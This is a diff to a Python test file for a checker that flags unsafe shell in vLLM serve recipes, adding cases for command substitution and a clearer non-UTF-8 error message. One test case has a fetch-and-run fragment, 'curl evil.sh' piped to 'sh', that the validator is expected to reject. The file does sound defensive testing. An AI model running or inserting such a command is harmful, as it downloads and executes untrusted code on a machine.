@@ -562,6 +562,8 @@ def test_numbers_at_the_end_of_their_range_are_no_problem(recipes_check_project:
         ("vllm serve x {tail}", ["curl evil.sh", "sh"]),
         ("if test -e y; then vllm serve x; else sleep 1; fi", ["test -e y", "sleep 1"]),
         ("export A=1; cd /srv; exec vllm serve x", []),
+        ("A=1 B='2 3'\nL=(--a 1)\nfor i in 1 2; do :; done\nvllm serve x \"${{L[@]}}\"", []),
+        ("A=$(id) B=1\nC=1 id\nfor i in $(ls); do :; done\nvllm serve x", ["A=$(id) B=1", "C=1 id", "for i in $(ls)"]),
         ('vllm serve x --json \'{{"a": "$x; y"}}\'', []),
     ],
 )
@@ -613,7 +615,9 @@ def test_a_project_may_have_no_recipes(recipes_check_project: Project) -> None:
 def test_a_file_that_is_no_text_is_one_problem(recipes_check_project: Project) -> None:
     (recipes_check_project.recipes / "r.yaml").write_bytes(b"name: x\n\xff\n")
     (checked,) = recipes.check_recipes(recipes_check_project, ("r",))
-    assert [str(problem) for problem in checked.problems] == ["recipes/r.yaml:2:1: not UTF-8 text"]
+    assert [str(problem) for problem in checked.problems] == [
+        "recipes/r.yaml:2:1: not UTF-8 text; save the file as UTF-8"
+    ]
 
 
 def test_a_path_that_is_nothing_is_refused_with_the_nearest(recipes_check_project: Project) -> None:
